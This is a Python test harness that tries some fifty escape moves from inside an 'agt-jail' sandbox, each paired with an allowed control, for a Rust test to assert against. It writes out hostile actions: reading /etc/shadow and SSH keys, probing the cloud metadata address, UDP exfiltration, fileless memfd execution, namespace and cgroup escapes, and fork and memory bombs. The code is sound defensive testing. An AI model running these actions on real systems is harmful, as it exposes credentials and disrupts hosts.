#!/usr/bin/python3
"""Escape attempts run from inside an agt-jail ring, each beside its positive control.

Usage: escape.py CONFIG_JSON [NAME...]

CONFIG_JSON (written by tests/jail_escape.rs) names the host facts an attempt needs:
workspace, host_pid, host_port, allowed (host:port reachable by policy), allowed_port,
unlisted_host (an address listening on allowed_port but not allow-listed), secret_file,
visible_file, abstract (host abstract socket name), setuid_copy, foreign_exe (a binary
outside the ring's exec allow-list), allowed_exe, entry_only (only the entry command runs:
no exec control can run a program, see exec_control).

Prints one JSON object per attempt:
  {"name": ..., "blocked": bool, "how": "EPERM" | "ok" | label, "control": "ok" | error}
"blocked" is true when the attempt failed (how = errno name or a label such as
"no-caps"); "control" is "ok" when the allowed counterpart worked. Nothing here decides
pass/fail: the Rust test asserts the expected outcome per attempt and ring.
"""
import ctypes
import errno
import json
import os
import platform
import select
import signal
import socket
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long

ARCH = platform.machine()
NR = {
    "x86_64": dict(ptrace=101, bpf=321, perf_event_open=298, userfaultfd=323, io_uring_setup=425,
                   keyctl=250, add_key=248, request_key=249, mount=165, umount2=166, pivot_root=155,
                   unshare=272, clone=56, clone3=435, setns=308, open_by_handle_at=304,
                   name_to_handle_at=303, init_module=175, finit_module=313, kexec_load=246,
                   personality=135, process_vm_readv=310, execveat=322, memfd_create=319,
                   fsopen=430, open_tree=428, settimeofday=164, reboot=169, swapon=167,
                   mknodat=259, sched_yield=24, getppid=110),
    "aarch64": dict(ptrace=117, bpf=280, perf_event_open=241, userfaultfd=282, io_uring_setup=425,
                    keyctl=219, add_key=217, request_key=218, mount=40, umount2=39, pivot_root=41,
                    unshare=97, clone=220, clone3=435, setns=268, open_by_handle_at=265,
                    name_to_handle_at=264, init_module=105, finit_module=273, kexec_load=104,
                    personality=92, process_vm_readv=270, execveat=281, memfd_create=279,
                    fsopen=430, open_tree=428, settimeofday=170, reboot=142, swapon=224,
                    mknodat=33, sched_yield=124, getppid=173),
}[ARCH]

CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000
CLONE_FILES = 0x00000400


class Blocked(Exception):
    """The attempt was stopped in a way that is not an errno (a label)."""


def sc(name, *args):
    """A raw syscall; raises OSError on failure."""
    cargs = [ctypes.c_long(a) if isinstance(a, int) else a for a in args]
    rc = libc.syscall(ctypes.c_long(NR[name]), *cargs)
    if rc < 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return rc


def run(fn):
    try:
        fn()
        return False, "ok"
    except Blocked as b:
        return True, str(b)
    except OSError as e:
        return True, errno.errorcode.get(e.errno, str(e.errno))
    except socket.timeout:
        return False, "timeout (not blocked)"
    except Exception as e:  # a bug in an attempt must not look like a block
        return False, "error: %r" % (e,)


def control(fn):
    ok, how = run(fn)
    return "ok" if not ok else how


CFG = {}


def read(path, n=64):
    with open(path, "rb") as f:
        return f.read(n)


def write(path, data=b"x"):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


def connect(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(3)
    try:
        s.connect((host, port))
    finally:
        s.close()


def own_child():
    pid = os.fork()
    if pid == 0:
        time.sleep(5)
        os._exit(0)
    return pid


def reap(pid):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    os.waitpid(pid, 0)


def kill_own_child():
    pid = own_child()
    os.kill(pid, signal.SIGTERM)
    os.waitpid(pid, 0)


def fork_ok():
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)


def thread_ok():
    t = threading.Thread(target=lambda: None)
    t.start()
    t.join()


def udp_loopback_ok():
    a = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    a.bind(("127.0.0.1", 0))
    b = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    b.sendto(b"ping", a.getsockname())
    a.settimeout(2)
    if a.recv(16) != b"ping":
        raise RuntimeError("no echo")


def abstract_self_ok():
    name = "\0agt-jail-probe-%d" % os.getpid()
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(name)
    srv.listen(1)
    cli = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    cli.connect(name)
    cli.close()
    srv.close()


def bpf_attempt():
    attr = ctypes.create_string_buffer(128)
    ctypes.memset(attr, 0, 128)
    attr[0] = b"\x01"  # BPF_MAP_CREATE / array type set below
    sc("bpf", 0, attr, 128)


def io_uring_attempt():
    params = ctypes.create_string_buffer(120)
    sc("io_uring_setup", 8, params)


def perf_attempt():
    attr = ctypes.create_string_buffer(128)
    attr[4:8] = (128).to_bytes(4, "little")  # size; type 0 = hardware, config 0 = cycles
    sc("perf_event_open", attr, 0, -1, -1, 0)


def keyctl_attempt():
    sc("keyctl", 0, -3, 0, 0, 0)  # KEYCTL_GET_KEYRING_ID of the session keyring


def add_key_attempt():
    sc("add_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(b"agt"), ctypes.c_char_p(b"v"), 1, -3)


MFD_NOEXEC_SEAL = 0x8
MFD_EXEC = 0x10


def memfd(name, flags):
    """memfd_create with `flags`; before Linux 6.3 the exec flags do not exist (EINVAL)
    and every memfd may be executed, so the call is made without them."""
    try:
        return sc("memfd_create", ctypes.c_char_p(name), flags)
    except OSError as e:
        if e.errno != errno.EINVAL:
            raise
        return sc("memfd_create", ctypes.c_char_p(name), 0)


def memfd_with_true():
    """An executable memfd holding /usr/bin/true (the attacker asks for MFD_EXEC)."""
    fd = memfd(b"probe", MFD_EXEC)
    with open("/usr/bin/true", "rb") as src:
        os.write(fd, src.read())
    return fd


def exec_in_child(do_exec):
    """Runs do_exec() (an exec) in a forked child; an exec that fails comes back as its
    OSError, a program that ran returns its exit code."""
    pid = os.fork()
    if pid == 0:
        try:
            do_exec()
        except OSError as e:
            os._exit(100 + e.errno)
        os._exit(99)
    _, status = os.waitpid(pid, 0)
    code = os.waitstatus_to_exitcode(status)
    if code >= 100:
        raise OSError(code - 100, os.strerror(code - 100))
    return code


def fileless_execveat():
    # execveat(fd, "", AT_EMPTY_PATH) runs whatever an fd holds. Where executable
    # memfds are already refused, use a plain fd so the execveat path itself is tested.
    try:
        fd = memfd_with_true()
    except OSError:
        fd = os.open("/usr/bin/true", os.O_RDONLY)
    argv = (ctypes.c_char_p * 2)(b"true", None)
    envp = (ctypes.c_char_p * 1)(None)
    code = exec_in_child(lambda: sc("execveat", fd, ctypes.c_char_p(b""), argv, envp, 0x1000))
    if code != 0:
        raise Blocked("exit-%d" % code)


def fileless_procfd():
    fd = memfd_with_true()
    exec_in_child(lambda: os.execv("/proc/self/fd/%d" % fd, ["true"]))


def kill_jail_init():
    # Landlock's signal scope (ABI 6) refuses it with EPERM. Without it the call returns 0,
    # and the pid namespace's init drops a SIGKILL sent from inside its namespace (the
    # kernel never delivers it there): had it died, the jail and this probe would be gone.
    os.kill(1, signal.SIGKILL)
    time.sleep(0.2)
    os.kill(1, 0)
    raise Blocked("ignored")


def memfd_ok():
    try:
        fd = memfd(b"data", MFD_NOEXEC_SEAL)
    except PermissionError:
        # Kernels without vm.memfd_noexec (before 6.3): the jail refuses memfd_create
        # itself; a private file holds data instead.
        fd = os.open("/tmp", os.O_TMPFILE | os.O_RDWR, 0o600)
    os.write(fd, b"hello")
    os.lseek(fd, 0, 0)
    if os.read(fd, 5) != b"hello":
        raise RuntimeError("memfd")


def exec_and_wait(path, args):
    def run():
        os.dup2(os.open("/dev/null", os.O_WRONLY), 1)
        os.execv(path, [path] + args)

    code = exec_in_child(run)
    if code != 0:
        raise RuntimeError("exit %d" % code)


def exec_control():
    """The allowed counterpart of an exec attempt: the allowed binary runs. Under the
    entry-only exec plane (`entry_only`: ring 3 without Landlock) no exec after the entry
    command's can run, so the control is that the binary could run but for that plane:
    it is there, executable, on a mount that is not noexec (access(X_OK) checks both)."""
    if CFG.get("entry_only"):
        if not os.access(CFG["allowed_exe"], os.X_OK):
            raise RuntimeError("%s is not executable here" % CFG["allowed_exe"])
        return
    exec_and_wait(CFG["allowed_exe"], [])


def exec_written_tmp():
    # Write-then-exec outside the workspace: a copy of an allowed binary in the private /tmp.
    path = "/tmp/agt-written-%d" % os.getpid()
    try:
        with open(CFG["allowed_exe"], "rb") as src, open(path, "wb") as dst:
            dst.write(src.read())
        os.chmod(path, 0o755)
    except OSError as e:  # the write must work for the exec to be the thing refused
        raise RuntimeError("cannot write %s: %s" % (path, e))
    exec_and_wait(path, [])


def setuid_attempt():
    # A setuid-root copy of python: run, it reports its effective capabilities.
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.dup2(w, 1)
        try:
            os.execv(CFG["setuid_copy"], ["suid", "-S", "-c",
                     "print([l for l in open('/proc/self/status') if l.startswith('CapEff')][0])"])
        except OSError as e:
            os._exit(100 + e.errno)
    os.close(w)
    out = os.read(r, 4096).decode()
    _, status = os.waitpid(pid, 0)
    code = os.waitstatus_to_exitcode(status)
    if code >= 100:
        raise OSError(code - 100, os.strerror(code - 100))
    if "CapEff:\t0000000000000000" in out:
        raise Blocked("no-caps")
    raise RuntimeError("got " + out.strip())


def fork_bomb():
    children = []
    try:
        for _ in range(100000):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children.append(pid)
    except OSError as e:
        raise OSError(e.errno, "after %d forks" % len(children))
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
        for pid in children:
            try:
                os.waitpid(pid, 0)
            except OSError:
                pass


def memory_bomb():
    pid = os.fork()
    if pid == 0:
        hog = []
        for _ in range(64 * 16):  # up to 16 GiB in 16 MiB steps
            hog.append(bytearray(16 << 20))
        os._exit(0)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL:
        raise Blocked("oom-killed")
    raise RuntimeError("memory bomb survived: status %d" % status)


def memory_ok():
    block = bytearray(16 << 20)
    block[-1] = 1


def cgroup_escape():
    write("/sys/fs/cgroup/cgroup.procs", b"0")


def cgroup_escape_unified():
    write("/sys/fs/cgroup/unified/cgroup.procs", b"0")


def cgroup_view_ok():
    text = read("/proc/self/cgroup", 4096).decode()
    if "0::/\n" not in text:
        raise RuntimeError("cgroup namespace root expected, got " + text)


def handle_attempt():
    buf = ctypes.create_string_buffer(136)
    buf[0:4] = (128).to_bytes(4, "little")
    sc("open_by_handle_at", -100, buf, os.O_RDONLY)


def name_to_handle_attempt():
    buf = ctypes.create_string_buffer(136)
    buf[0:4] = (128).to_bytes(4, "little")
    mount_id = ctypes.c_int(0)
    sc("name_to_handle_at", -100, ctypes.c_char_p(b"/etc/passwd"), buf, ctypes.byref(mount_id), 0)


def udp_egress():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"exfiltrate", ("192.0.2.1", 53))
    finally:
        s.close()


def unix_dgram_ok():
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    a.send(b"ping")
    if b.recv(8) != b"ping":
        raise RuntimeError("no echo")


def host_abstract():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect("\0" + CFG["abstract"])


def personality_attempt():
    sc("personality", 0x0400000)  # READ_IMPLIES_EXEC


def setns_attempt():
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
    sc("setns", fd, 0)


def ptrace_attempt():
    pid = own_child()
    try:
        sc("ptrace", 16, pid, 0, 0)  # PTRACE_ATTACH to its own child
    finally:
        reap(pid)


def process_vm_attempt():
    pid = own_child()
    try:
        buf = ctypes.create_string_buffer(16)
        local = (ctypes.c_void_p * 2)(ctypes.cast(buf, ctypes.c_void_p), 16)
        remote = (ctypes.c_void_p * 2)(0x400000, 16)
        sc("process_vm_readv", pid, local, 1, remote, 1, 0)
    finally:
        reap(pid)


ATTEMPTS = {
    # name: (attempt, control)
    "read_etc_shadow": (lambda: read("/etc/shadow"), lambda: read("/etc/passwd")),
    "list_root_home": (lambda: os.listdir("/root"), lambda: os.listdir("/etc")),
    "read_ssh_key": (lambda: read(CFG["secret_file"]), lambda: read(CFG["visible_file"])),
    "read_runtime_dir": (lambda: os.listdir("/run/agt-jail"), lambda: os.listdir("/tmp")),
    "write_etc": (lambda: write("/etc/agt-jail-probe"), lambda: write(os.path.join(CFG["workspace_inside"], "probe-ok"))),
    "write_usr_bin": (lambda: write("/usr/bin/agt-jail-probe"), lambda: write("/tmp/probe-ok")),
    "mount_tmpfs": (lambda: sc("mount", ctypes.c_char_p(b"none"), ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"tmpfs"), 0, None),
                    lambda: read("/proc/self/mountinfo")),
    "umount_proc": (lambda: sc("umount2", ctypes.c_char_p(b"/proc"), 2), lambda: read("/proc/self/status")),
    "new_mount_api": (lambda: sc("fsopen", ctypes.c_char_p(b"tmpfs"), 0), lambda: read("/proc/self/mounts")),
    "unshare_userns": (lambda: sc("unshare", CLONE_NEWUSER), lambda: sc("unshare", CLONE_FILES)),
    "unshare_mountns": (lambda: sc("unshare", CLONE_NEWNS), lambda: sc("unshare", CLONE_FILES)),
    "clone_userns": (lambda: sc("clone", CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0), fork_ok),
    "clone3": (lambda: sc("clone3", ctypes.create_string_buffer(88), 88), thread_ok),
    "ptrace_attach": (ptrace_attempt, kill_own_child),
    "process_vm_readv": (process_vm_attempt, lambda: read("/proc/self/maps")),
    "kill_host_process": (lambda: os.kill(CFG["host_pid"], signal.SIGTERM), kill_own_child),
    "kill_jail_init": (kill_jail_init, kill_own_child),
    "read_init_environ": (lambda: read("/proc/1/environ"), lambda: read("/proc/self/environ")),
    "connect_host_loopback": (lambda: connect("127.0.0.1", CFG["host_port"]), lambda: CFG["allowed_connect"]()),
    "connect_loopback_allowed_port": (lambda: connect("127.0.0.1", CFG["allowed_port"]), lambda: CFG["allowed_connect"]()),
    "connect_unlisted_address_allowed_port": (lambda: connect(CFG.get("unlisted_host", "127.0.0.3"), CFG["allowed_port"]),
                                              lambda: CFG["allowed_connect"]()),
    "connect_metadata": (lambda: connect("169.254.169.254", 80), lambda: CFG["allowed_connect"]()),
    "connect_unlisted": (lambda: connect("192.0.2.1", 443), lambda: CFG["allowed_connect"]()),
    "udp_egress": (udp_egress, unix_dgram_ok),
    "raw_socket": (lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
                   lambda: socket.socket(socket.AF_INET, socket.SOCK_STREAM).close()),
    "packet_socket": (lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0),
                      lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).close()),
    "bpf": (bpf_attempt, lambda: sc("sched_yield")),
    "io_uring_setup": (io_uring_attempt, lambda: select.epoll().close()),
    "keyctl": (keyctl_attempt, lambda: os.urandom(16)),
    "add_key": (add_key_attempt, lambda: os.urandom(16)),
    "perf_event_open": (perf_attempt, lambda: time.perf_counter()),
    "userfaultfd": (lambda: sc("userfaultfd", 0), memory_ok),
    "fileless_execveat": (fileless_execveat, memfd_ok),
    "fileless_proc_fd": (fileless_procfd, memfd_ok),
    "setuid_gains_caps": (setuid_attempt, exec_control),
    "write_proc_sys": (lambda: write("/proc/sys/kernel/hostname", b"pwned"), lambda: read("/proc/sys/kernel/hostname")),
    "drop_caches": (lambda: write("/proc/sys/vm/drop_caches", b"3"), lambda: read("/proc/sys/vm/swappiness")),
    "leave_cgroup": (cgroup_escape, cgroup_view_ok),
    "leave_cgroup_unified": (cgroup_escape_unified, cgroup_view_ok),
    "open_by_handle_at": (handle_attempt, lambda: read("/etc/hostname")),
    "name_to_handle_at": (name_to_handle_attempt, lambda: read("/etc/hostname")),
    "host_abstract_socket": (host_abstract, abstract_self_ok),
    "setns_host": (setns_attempt, lambda: os.open("/proc/self/ns/net", os.O_RDONLY)),
    "personality": (personality_attempt, lambda: sc("personality", 0xFFFFFFFF)),
    "kernel_module": (lambda: sc("finit_module", 0, ctypes.c_char_p(b""), 0), lambda: os.uname()),
    "kexec_load": (lambda: sc("kexec_load", 0, 0, 0, 0), lambda: os.uname()),
    "set_time": (lambda: sc("settimeofday", ctypes.create_string_buffer(16), 0), lambda: time.time()),
    "mknod_device": (lambda: os.mknod("/tmp/agt-null", 0o600 | 0o020000, os.makedev(1, 3)),
                     lambda: os.mkfifo("/tmp/agt-fifo-%d" % os.getpid())),
    "pivot_root": (lambda: sc("pivot_root", ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"/tmp")), lambda: os.chdir("/tmp")),
    "exec_unlisted": (lambda: exec_and_wait(CFG["foreign_exe"], []), exec_control),
    "exec_written_tmp": (exec_written_tmp, exec_control),
    "fork_bomb": (fork_bomb, fork_ok),
    "memory_bomb": (memory_bomb, memory_ok),
}


def main():
    global CFG
    with open(sys.argv[1]) as f:
        CFG = json.load(f)
    allowed = CFG.get("allowed")
    if allowed:
        host, port = allowed.rsplit(":", 1)
        CFG["allowed_connect"] = lambda: connect(host, int(port))
    else:
        CFG["allowed_connect"] = udp_loopback_ok
    names = sys.argv[2:] or list(ATTEMPTS)
    for name in names:
        attempt, ctl = ATTEMPTS[name]
        blocked, how = run(attempt)
        print(json.dumps({"name": name, "blocked": blocked, "how": how, "control": control(ctl)}), flush=True)


if __name__ == "__main__":
    main()
